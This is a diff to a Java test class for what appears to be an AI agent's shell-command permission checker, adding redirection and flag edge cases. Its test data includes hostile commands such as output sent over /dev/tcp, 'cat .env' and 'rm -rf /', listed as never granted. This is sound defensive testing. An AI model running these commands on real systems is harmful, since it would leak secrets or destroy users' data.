@@ -145,6 +145,9 @@ class GrantedCommandsTest {
                 "git status > /dev/tcp/host/80",
                 "git status > /dev/null/../sda",
                 "git status >",
+                "git status 2>&1>/dev/null",
+                "git status > 2>/dev/null",
+                "git status 1>&2</dev/null",
                 "> x git status",
                 "> x",
                 // what surrounds it
@@ -255,7 +258,9 @@ class GrantedCommandsTest {
                 "git st → git st",
                 "npm run build -- --watch → npm run build …",
                 "npm test → npm test …",
-                "npm install --git=./x → npm install --git=./x",
+                "npm test --git=./x → npm test --git=./x",
+                "npm install x → npm install x",
+                "printf -v PATH /tmp → exactly printf -v PATH /tmp",
                 "cargo +nightly test → cargo +nightly test",
                 "docker exec web sh → docker exec web sh",
                 "gh pr view 12 → gh pr view …",
@@ -276,9 +281,12 @@ class GrantedCommandsTest {
     @Test
     void each_segment_is_granted_by_itself_and_only_what_is_missing_is_asked_for() {
         assertThat(Asking.offers("git log | head -3 && ls -l")).containsExactly("git log …", "ls -l");
-        assertThat(((Verdict.Ask) Asking.verdict("git log && ls -l", granted)).question().offerWords())
+        assertThat(((Verdict.Ask) Asking.verdict("git log && ls -l", granted))
+                        .question()
+                        .offerWords())
                 .isEqualTo("git log …");
-        assertThat(Asking.allows("git log -1; ls -l", Asking.grantedBy("git log && ls -l"))).isTrue();
+        assertThat(Asking.allows("git log -1; ls -l", Asking.grantedBy("git log && ls -l")))
+                .isTrue();
     }
 
     @Test
@@ -316,6 +324,9 @@ class GrantedCommandsTest {
                 "ls &",
                 "cat .env",
                 "rm -rf /",
+                "-c ls",
+                "+x ls",
+                "'' x",
                 "ls\nls"
             })
     void some_commands_are_never_granted(String command) {
@@ -327,10 +338,7 @@ class GrantedCommandsTest {
 
     @Test
     void the_same_words_in_another_directory_are_asked_for() {
-        Proposal elsewhere = new Proposal(
-                "shell",
-                Tool.Kind.EFFECT,
-                new Intent.Runs("git status", "sub"));
+        Proposal elsewhere = new Proposal("shell", Tool.Kind.EFFECT, new Intent.Runs("git status", "sub"));
 
         Verdict verdict = Asking.RULES.decide(elsewhere, ApprovalMode.ASK, granted);
 
